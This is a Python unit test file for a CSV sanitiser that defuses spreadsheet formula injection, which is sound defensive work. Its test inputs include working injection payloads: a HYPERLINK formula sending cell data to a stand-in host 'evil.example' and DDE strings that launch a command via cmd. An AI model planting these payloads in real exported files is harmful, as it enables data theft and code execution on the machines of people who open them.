"""Unit tests for hybridcon.core.csvcells: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hybridcon.core.csvcells import FORMULA_TRIGGERS, csv_document, safe_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Klik hier")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_triggers_are_prefixed_with_a_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ann Peeters", "ann@example.org", "T-001", "", "1+1", " =1"])
def test_other_text_is_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_a_document_defuses_text_and_keeps_counts_and_empty_cells() -> None:
    text = csv_document(("id", "name", "n"), [("T-1", None, -3), ("=1+1", "An", 0)])
    assert text == "id,name,n\r\nT-1,,-3\r\n'=1+1,An,0\r\n"
    assert csv_document(("a", "b"), [("x;y", "z")], delimiter=";") == 'a;b\r\n"x;y";z\r\n'


@given(st.text())
def test_no_written_cell_starts_with_a_trigger(value: str) -> None:
    text = csv_document(("cell",), [(value,)])
    (cell,) = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert cell in {value, "'" + value}
